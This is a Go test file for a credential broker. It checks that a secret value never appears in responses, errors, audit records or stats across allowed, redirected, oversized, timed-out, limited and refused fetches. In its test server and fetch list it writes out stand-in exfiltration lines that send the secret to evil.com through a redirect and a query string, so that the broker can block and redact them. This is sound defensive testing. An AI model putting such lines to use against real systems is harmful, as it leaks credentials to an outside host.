package broker_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/plugin-lsp/plugin-lsp/internal/checker/fixtures"
	"github.com/plugin-lsp/plugin-lsp/internal/runner/broker"
)

// One run that touches every path (allowed, echoed, refused, no fixture,
// too large, timeout, limit, a URL that guesses the secret) through both
// providers; a scan of everything the tool or the record could see finds
// no secret value.
func TestNoSecretAnywhere(t *testing.T) {
	const secret = "s3cr3t-VALUE-91"
	release := make(chan struct{})
	s := newTLSServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/echo":
			w.Header().Set("X-Seen", r.Header.Get("Authorization"))
			w.Header().Set("Location", "https://evil.com/?leak="+r.Header.Get("Authorization"))
			w.WriteHeader(302)
			fmt.Fprintf(w, "%v", r.Header)
		case "/big":
			io.WriteString(w, strings.Repeat(r.Header.Get("Authorization"), 200))
		case "/slow":
			<-release
		}
	}))
	t.Cleanup(func() { close(release) })
	creds := []broker.Credential{{Name: "api_key", Header: "Authorization", Format: "Bearer {{secret}}"}}
	net := broker.New(broker.Config{
		// 1 s: /slow must time out, and every other request, a TLS
		// handshake on loopback included, must not (100 ms was not always
		// enough beside a language-server soak).
		Fetch:       []broker.Capability{{Domain: testHost, MaxBytes: 1000, TimeoutMs: 1000}},
		Credentials: creds,
		Secrets:     mapSecrets{"api_key": secret},
		Provider:    s.provider(),
		MaxFetches:  8,
	})
	fix, err := fixtures.Parse([]byte(`{"fnFetch": [{"url": "https://` + testHost + `/fixture", "body": {"token": "` + secret + `"}}], "secrets": {"api_key": "` + secret + `"}}`))
	if err != nil {
		t.Fatal(err)
	}
	fake := broker.New(broker.Config{
		Fetch:       []broker.Capability{{Domain: testHost}},
		Credentials: creds,
		Secrets:     broker.SecretStore("test", fix, nil),
		Provider:    broker.NewFixtureProvider(fix),
	})
	var seen strings.Builder
	record := func(resp *broker.Response, err error) {
		if resp != nil {
			fmt.Fprintf(&seen, "%d %v %s %s\n", resp.Status, resp.Header, resp.Body, resp.URL)
		}
		if err != nil {
			fmt.Fprintf(&seen, "%s %#v\n", err, err)
		}
	}
	for _, b := range []*broker.Broker{net, fake} {
		for _, path := range []string{"/echo", "/big", "/slow", "/fixture", "/missing?k=" + secret, "/" + secret} {
			record(b.Fetch(context.Background(), broker.Request{URL: "https://" + testHost + path, Header: http.Header{"Authorization": {"mine"}}}))
		}
		record(b.Fetch(context.Background(), broker.Request{URL: "https://evil.com/?k=" + secret}))
		record(b.Fetch(context.Background(), broker.Request{URL: "http://" + testHost + "/" + secret}))
		for i := 0; i < 3; i++ {
			record(b.Fetch(context.Background(), broker.Request{URL: "https://" + testHost + "/echo"}))
		}
		seen.WriteString(mustJSON(t, b.Audit()))
		fmt.Fprintf(&seen, "%+v\n", b.Stats())
	}
	all := seen.String()
	if strings.Contains(all, secret) {
		t.Fatalf("a secret value is visible:\n%s", all)
	}
	// The scan looked at real output: the marker and each outcome are there.
	for _, want := range []string{"••••(api_key)", "too-large", "timeout", "no-fixture", "not-allowed", "not-https", "limit", `"token":"••••(api_key)"`, "302"} {
		if !strings.Contains(all, want) {
			t.Errorf("the scanned output lacks %q:\n%s", want, all)
		}
	}
}
